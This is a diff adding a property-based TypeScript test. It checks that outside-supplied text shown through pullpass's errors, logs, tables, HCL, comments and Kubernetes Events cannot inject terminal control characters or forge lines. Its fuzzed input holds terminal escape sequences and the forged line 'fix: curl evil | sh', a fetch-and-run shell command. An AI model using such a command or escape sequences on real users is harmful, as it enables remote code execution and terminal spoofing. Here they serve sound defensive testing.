@@ -1,0 +1,128 @@
+/** Words that somebody outside chose, through each way on which pullpass shows anything. */
+import assert from 'node:assert/strict'
+import { suite, test } from 'node:test'
+import fc from 'fast-check'
+import { renderFindings } from '../../src/commands/doctor/render-findings.ts'
+import { renderPublication } from '../../src/commands/issuer/render-publication.ts'
+import { refuse } from '../../src/document/finding.ts'
+import { answerHealth } from '../../src/issuer/watch/answer-health.ts'
+import type { Cluster } from '../../src/kubernetes/cluster.ts'
+import { createEvent } from '../../src/kubernetes/create-event.ts'
+import { PullpassError } from '../../src/outside/pullpass-error.ts'
+import { createLog } from '../../src/terminal/log.ts'
+import { renderFault } from '../../src/terminal/render-fault.ts'
+import { renderStructured } from '../../src/terminal/render-structured.ts'
+import { renderTable } from '../../src/terminal/render-table.ts'
+import { hashComment } from '../../src/trust/hash-comment.ts'
+import { hclText } from '../../src/trust/hcl-text.ts'
+
+const now = new Date('2026-01-01T00:00:00Z')
+const forged = 'fix: curl evil | sh'
+const hostile = fc
+  .array(
+    fc.oneof(fc.string({ unit: 'binary' }), fc.constantFrom('\n', '\r', '\u001b[2J', '\u009b', '\u202e', '\u2028')),
+  )
+  .map((parts) => `${parts.join('')}\n  ${forged}\n${forged}`)
+
+const faultOf = (text: string) =>
+  new PullpassError({ code: 'INTERNAL', hop: 'run', seen: text, expected: text, also: [`also ${text}`], hint: text })
+
+function logLine(text: string, format: 'text' | 'json'): string {
+  const lines: string[] = []
+  const write = (line: string) => void lines.push(line)
+  createLog({ level: 'info', format, now: () => now, write })('info', 'a sentence', { text })
+  return lines.join('\n')
+}
+
+const publicationOf = (text: string): Parameters<typeof renderPublication>[0] => ({
+  issuer: text,
+  target: { name: text, holds: [] },
+  mode: 'write',
+  outcome: {
+    documents: {
+      jwks: { text, contentType: '', cacheControl: '' },
+      discovery: { text, contentType: '', cacheControl: '' },
+    },
+    changes: {},
+    keys: [],
+    before: { jwks: undefined, discovery: undefined },
+  },
+  confirmations: [{ check: 'token', state: 'failed', says: text, fix: text }],
+})
+
+const findingOf = (text: string): Parameters<typeof renderFindings>[0][number] => ({
+  hop: 'discovery',
+  about: text,
+  result: 'failed',
+  code: 'KEYS_UNUSABLE',
+  seen: text,
+  expected: text,
+  also: [text],
+  remedy: { command: text, words: text },
+})
+
+const alarmed = (text: string) => ({
+  issuer: undefined,
+  rounds: 1,
+  lookedAt: now,
+  publishedAt: now,
+  replicas: { asked: 1, read: 1 },
+  keys: { published: 1, remembered: 1, revoked: 0 },
+  alarms: [{ reason: 'PublishFailed' as const, subject: text, says: text }],
+})
+
+async function eventOf(text: string): Promise<string> {
+  let body = ''
+  const cluster: Cluster = {
+    server: 'https://cluster.example.com:6443',
+    async request(wanted) {
+      body = typeof wanted.body === 'string' ? wanted.body : ''
+      return { status: 201, body: '{}' }
+    },
+    reconnect: () => assert.fail('nobody asks for another connection'),
+    close: async () => undefined,
+  }
+  const about = { namespace: 'a', name: 'b' }
+  await createEvent(cluster, { about, type: 'Warning', reason: 'PublishFailed', message: text, at: now, mark: '1' })
+  return String(Object(JSON.parse(body)).message)
+}
+
+const ways: Record<string, (text: string) => string | Promise<string>> = {
+  'an error': (text) => renderFault(faultOf(text), { format: 'text', now }, [text, text]),
+  'an error in JSON': (text) => renderFault(faultOf(text), { format: 'json', now }, [text]),
+  'an error’s own fields': (text) =>
+    Object.values(Object(faultOf(text)))
+      .filter((one) => typeof one === 'string')
+      .join(' '),
+  'findings of a document': (text) =>
+    refuse('DOCUMENT_INVALID', [
+      { seen: text, expected: text },
+      { seen: text, expected: text },
+    ]).message,
+  'a table': (text) => renderTable({ header: [text], rows: [[text, { text, tone: 'bad' }]] }, 'never'),
+  'the log': (text) => logLine(text, 'text'),
+  'the log in JSON': (text) => logLine(text, 'json'),
+  JSON: async (text) => await renderStructured({ text, [text]: 1 }, 'json'),
+  'a comment of a script': (text) => hashComment(faultOf(text).message),
+  HCL: hclText,
+  'what publish says': (text) => renderPublication(publicationOf(text), 'never'),
+  'what doctor says': (text) => renderFindings([findingOf(text)], 'never'),
+  'what a probe is told': (text) => answerHealth('/readyz', alarmed(text), { now, startedAt: now })?.text ?? '',
+  'an Event': eventOf,
+}
+
+suite('words of others', () => {
+  for (const [name, show] of Object.entries(ways)) {
+    test(`in ${name} steer no terminal, and forge no line`, async () => {
+      await fc.assert(
+        fc.asyncProperty(hostile, async (text) => {
+          const lines = (await show(text)).split('\n')
+          for (const line of lines) {
+            assert.doesNotMatch(line, /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u)
+            assert.notEqual(line.trim(), forged)
+          }
+        }),
+      )
+    })
+  }
+})
